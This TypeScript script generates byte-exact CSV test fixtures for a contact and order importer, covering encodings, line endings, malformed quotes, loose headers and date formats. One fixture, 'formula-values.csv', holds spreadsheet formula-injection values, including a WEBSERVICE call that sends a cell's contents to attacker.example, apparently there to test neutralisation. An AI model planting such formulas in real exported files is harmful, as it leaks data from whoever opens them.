// The CSV files in fixtures/csv, as bytes. Several cases live in their exact bytes (a BOM, CRLF
// next to LF, Windows-1252, UTF-16LE), which an editor or a checkout could silently change; so the
// files are written from here (`npx tsx scripts/csvFixtures.ts`) and a test checks them against it.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

export const CSV_FIXTURE_DIR = path.resolve(import.meta.dirname, '../fixtures/csv');

const utf8 = (text: string) => Buffer.from(text, 'utf8');

/** Windows-1252 is Latin-1 except for 0x80–0x9F, where it has punctuation and a few letters. */
const WINDOWS_1252_HIGH: Record<string, number> = {
  '€': 0x80,
  '„': 0x84,
  '…': 0x85,
  Š: 0x8a,
  Œ: 0x8c,
  '‘': 0x91,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '–': 0x96,
  '—': 0x97,
  '™': 0x99,
  ž: 0x9e,
};

function windows1252(text: string): Buffer {
  return Buffer.from(
    [...text].map((char) => {
      const code = char.codePointAt(0)!;
      const byte =
        WINDOWS_1252_HIGH[char] ??
        (code < 0x80 || (code >= 0xa0 && code <= 0xff) ? code : undefined);
      if (byte === undefined) throw new Error(`${char} has no Windows-1252 byte`);
      return byte;
    }),
  );
}

export const CSV_FIXTURES: Readonly<Record<string, Buffer>> = {
  'contacts-utf8-bom-crlf.csv': Buffer.concat([
    Buffer.from([0xef, 0xbb, 0xbf]),
    utf8(
      [
        'Full name,Email,Company,How did you find us?,Rating,Submitted at',
        'Grace Hopper,grace@example.com,"Compilers, Inc.","My manager wrote:\r\n""worth a look""",5,2025-03-04T09:15:30.125Z',
        'Frédérique Lemaître,frederique@example.fr,Bäckerei Müller,Podcast,4,2025-03-05T10:00:00.000Z',
        '王小明,xiaoming@example.cn,,Search,3,2025-03-06T14:45:00.000Z',
        '"Nakamura, Yui",yui@example.jp,Nakamura & Daughters,"Meetup, Osaka",5,2025-03-07T18:30:15.000Z',
        '',
      ].join('\r\n'),
    ),
  ]),
  'orders-semicolon-decimal-comma.csv': utf8(
    [
      'Name;E-Mail;Summe;Bestelldatum;Newsletter',
      'Mareike Groß;mareike@example.de;2.045,75;13.02.2025;ja',
      'Anaïs Lefèvre;anais@example.fr;12,00;21.02.2025;nein',
      'Małgorzata Świątek;gosia@example.pl;0,05;28.02.2025;ja',
      '',
    ].join('\r\n'),
  ),
  'feedback-windows-1252.csv': windows1252(
    [
      'Name,Comment,Tip',
      'Hélène Šimek,‘Lovely’ breakfast — “would book again”,€25',
      'François Œuvrard,Quiet room™… mostly; „fine“ – žero complaints,€9',
      '',
    ].join('\r\n'),
  ),
  'mixed-line-endings.csv': utf8(
    'Name,Email,Points\nIvo,ivo@example.com,3\r\nJun,jun@example.com,12\nKai,kai@example.com,0\r\n',
  ),
  'unterminated-quote.csv': utf8(
    [
      'Name,Email,Note',
      'Lea,lea@example.com,all good',
      'Mo,mo@example.com,"forgot to close this',
      'Ned,ned@example.com,fine',
      'Oda,oda@example.com,fine too',
      '',
    ].join('\n'),
  ),
  'unicode-text-utf16le.txt': Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(
      [
        'Name\tEmail\tCity',
        'Åsa\tasa@example.se\tGöteborg',
        'Tomasz\ttomasz@example.pl\tŁódź',
        '',
      ].join('\r\n'),
      'utf16le',
    ),
  ]),
  'loose-headers.csv': utf8(
    [
      ' Full_NAME  ,E-mail Address,rating (out of 5),',
      '',
      'Petra Novak,petra@example.com,2,',
      '',
      'Quentin Blake,quentin@example.com,5,',
      '',
      '',
    ].join('\n'),
  ),
  'formula-values.csv': utf8(
    [
      'Name,Comment',
      '"=WEBSERVICE(""http://attacker.example/?q=""&A2)",+7*3',
      '@NOW(),-3*4',
      ' =2*2,\t@cmd',
      'just text,-12',
      '',
    ].join('\n'),
  ),
  'review-day-first-dates.csv': utf8(
    [
      'Full name,Email,Plan,Satisfaction,Submitted',
      'Ana Review,ana.review@example.com,Pro plan,5,03/04/2025',
      'Ben Review,ben.review@example.com,Pro Plna,4,14/03/2025',
      'Cem Review,cem.review@example.com,Team plan,9,25/12/2024',
      'Dee Review,dee.review at example.com,Starter plan,3,11/02/2025',
      '',
    ].join('\n'),
  ),
};

if (process.argv[1] === import.meta.filename) {
  mkdirSync(CSV_FIXTURE_DIR, { recursive: true });
  for (const [name, bytes] of Object.entries(CSV_FIXTURES)) {
    writeFileSync(path.join(CSV_FIXTURE_DIR, name), bytes);
  }
}
